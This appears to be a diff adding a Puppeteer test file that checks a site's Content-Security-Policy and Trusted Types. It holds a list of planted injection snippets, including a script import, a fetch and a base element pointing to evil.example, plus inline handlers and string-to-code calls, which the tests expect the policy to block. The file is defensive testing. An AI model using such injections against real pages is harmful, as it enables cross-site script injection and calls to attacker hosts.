@@ -1,0 +1,158 @@
+// The Content-Security-Policy and Trusted Types in a browser: nothing that the site does is refused, and what others would
+// do is.
+import { cp, readFile, rm, writeFile } from 'node:fs/promises'
+import type { Page } from 'puppeteer'
+import { test } from 'uvu'
+import * as assert from 'uvu/assert'
+import { pages } from '../../pages'
+import { sentences } from '../../src/contact/validate'
+import { site } from '../../src/content/site'
+import { openBrowser, until, type Visit } from '../support/browser'
+import { allPages, documentOf } from '../support/site'
+
+const browser = await openBrowser()
+test.after(browser.close)
+
+/** What a visit complained of; the status of the 404 page is no complaint. */
+const complaints = ({ faults }: Visit) => faults.filter(fault => !/status of 404/.test(fault))
+
+async function closing(visit: Visit): Promise<string[]> {
+  await visit.page.browserContext().close()
+  return complaints(visit)
+}
+
+/** Opens and closes whatever says that it opens something, and every disclosure. */
+const openAll = (page: Page) =>
+  page.evaluate(async () => {
+    const controls = document.querySelectorAll<HTMLElement>('button[aria-expanded], [aria-haspopup], summary')
+    for (const control of controls) {
+      control.click()
+      await new Promise(resolve => setTimeout(resolve, 50))
+      control.click()
+    }
+    if (controls.length === 0) throw new Error('There is nothing to open')
+  })
+
+/** Clicks the first link to a page, wherever it is, and waits for the router. */
+async function follow(page: Page, path: string) {
+  await page.evaluate(path => document.querySelector<HTMLElement>(`a[href="${path}"]`)?.click(), path)
+  await until(page, `location.pathname === '${path}'`)
+}
+
+for (const { path } of allPages) {
+  test(`${path} does nothing that its policy refuses, with every menu opened, wide and narrow`, async () => {
+    const visit = await browser.visit(path)
+    for (const width of [1280, 390]) {
+      await visit.page.setViewport({ width, height: 800 })
+      await openAll(visit.page)
+    }
+    assert.equal(await closing(visit), [])
+  })
+}
+
+for (const path of ['/', '/contact', '/404']) {
+  test(`from ${path} every page is reached by clicks, under the policy of the first`, async () => {
+    const visit = await browser.visit(path)
+    const { page } = visit
+    for (const target of pages) {
+      const { meta } = await target.load()
+      await follow(page, target.path)
+      await until(page, `document.title === ${JSON.stringify(meta.title)}`)
+    }
+    assert.ok(await page.evaluate(() => document.adoptedStyleSheets.length > 0))
+    assert.equal(await closing(visit), [])
+  })
+}
+
+test('the contact form is sent under the policy', async () => {
+  const visit = await browser.visit('/contact')
+  const { page } = visit
+  const fields = { fullName: 'Nour', email: 'nour@deltaholidays.example', mobilePhone: '1', message: 'A demo?' }
+  for (const [name, value] of Object.entries(fields)) await page.type(`main form [name=${name}]`, value)
+  await page.click('main form button')
+  await until(
+    page,
+    `document.querySelector('main form [role=status]').textContent === ${JSON.stringify(sentences.sent)}`,
+  )
+  assert.equal(await closing(visit), [])
+})
+
+test('the subscribe box is sent under the policy', async () => {
+  const visit = await browser.visit('/about')
+  const { page } = visit
+  await page.type('footer form [name=email]', 'nour@deltaholidays.example')
+  await page.click('footer form button')
+  const { success } = site.subscribe
+  await until(page, `document.querySelector('footer form [role=status]').textContent === ${JSON.stringify(success)}`)
+  assert.equal(await closing(visit), [])
+})
+
+const planted: [what: string, directive: string, code: string][] = [
+  ['a style attribute', 'style-src-attr', `document.body.setAttribute('style', 'color: red')`],
+  [
+    'a style element',
+    'style-src-elem',
+    `document.head.append(Object.assign(document.createElement('style'), { textContent: 'p{}' }))`,
+  ],
+  [
+    'an inline handler',
+    'script-src-attr|require-trusted-types-for',
+    `try { document.body.setAttribute('onclick', 'stop()'); document.body.click() } catch {}`,
+  ],
+  ['a script of another site', 'script-src-elem', `import('https://evil.example/a.js').catch(() => {})`],
+  ['a picture of another site', 'img-src', `new Image().src = 'https://evil.example/a.png'`],
+  ['a picture in a data: URL', 'img-src', `new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='`],
+  ['a call to another site', 'connect-src', `fetch('https://evil.example/').catch(() => {})`],
+  [
+    'another base',
+    'base-uri',
+    `document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }))`,
+  ],
+  ['a frame', 'frame-src', `document.body.append(Object.assign(document.createElement('iframe'), { src: '/about' }))`],
+  ['markup from a string', 'require-trusted-types-for', `try { document.body.innerHTML = '<p>' } catch {}`],
+  ['code from a string', 'script-src|require-trusted-types-for', `setTimeout(() => Function('return 1')())`],
+  ['a policy that makes strings trusted', 'trusted-types', `try { trustedTypes.createPolicy('x', {}) } catch {}`],
+]
+
+const { page: victim, faults: heard } = await browser.visit('/about')
+
+for (const [what, directive, code] of planted) {
+  test(`${what} is refused, and the listener of these tests hears of it`, async () => {
+    heard.length = 0
+    await victim.evaluate(code)
+    const isHeard = () => heard.some(fault => new RegExp(`^Policy violation: (${directive}) `).test(fault))
+    for (let i = 0; i < 40 && !isHeard(); i += 1) await new Promise(resolve => setTimeout(resolve, 50))
+    assert.ok(isHeard(), heard.join('\n'))
+  })
+}
+
+test('every script is loaded once, and those of other pages when they are wanted', async () => {
+  const { page, requests } = await browser.visit('/about')
+  for (const path of ['/services/training', '/contact']) {
+    await follow(page, path)
+    await page.waitForNetworkIdle()
+  }
+  await page.browserContext().close()
+  const scripts = requests.filter(url => url.endsWith('.js'))
+  assert.ok(scripts.length > 4)
+  assert.is(new Set(scripts).size, scripts.length)
+})
+
+test('a script whose bytes are not those of the build is not run', async () => {
+  const root = '.build/tampered'
+  await cp('dist', root, { recursive: true })
+  const preload = (await documentOf('/')).querySelector('link[rel=modulepreload]')?.getAttribute('href')
+  const file = `${root}${preload}`
+  await writeFile(file, `${await readFile(file, 'utf8')}\n//`)
+  for (const end of ['.br', '.gz']) await rm(file + end)
+  const tampered = await openBrowser(root)
+  const { page, faults } = await tampered.visit('/about')
+  await page.goto(tampered.url, { waitUntil: 'networkidle0' })
+  const hydrated = await page.$('header [data-open]')
+  await tampered.close()
+  await rm(root, { recursive: true })
+  assert.is(hydrated, null)
+  assert.match(faults.join('\n'), 'integrity')
+})
+
+test.run()
